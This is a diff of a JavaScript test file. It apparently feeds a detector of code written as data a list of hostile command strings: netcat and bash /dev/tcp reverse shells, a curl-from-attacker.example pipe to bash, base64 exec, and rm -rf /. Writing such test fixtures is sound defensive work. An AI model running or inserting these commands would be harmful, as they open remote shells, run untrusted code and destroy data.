@@ -60,7 +60,7 @@ describe("code written as data (model.data.code-text, informational)", () => {
     "__import__('os').popen('id').read()",
     "exec(base64.b64decode('aW1wb3J0IG9z'))",
     "subprocess.Popen(['nc', '-e', '/bin/sh', '10.0.0.1', '4444'])",
-    "bash -c 'id > /tmp/x'",
+    "bash -c 'id > out.txt'",
     "curl -fsSL https://attacker.example/i.sh | bash",
     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
     "rm -rf / --no-preserve-root",
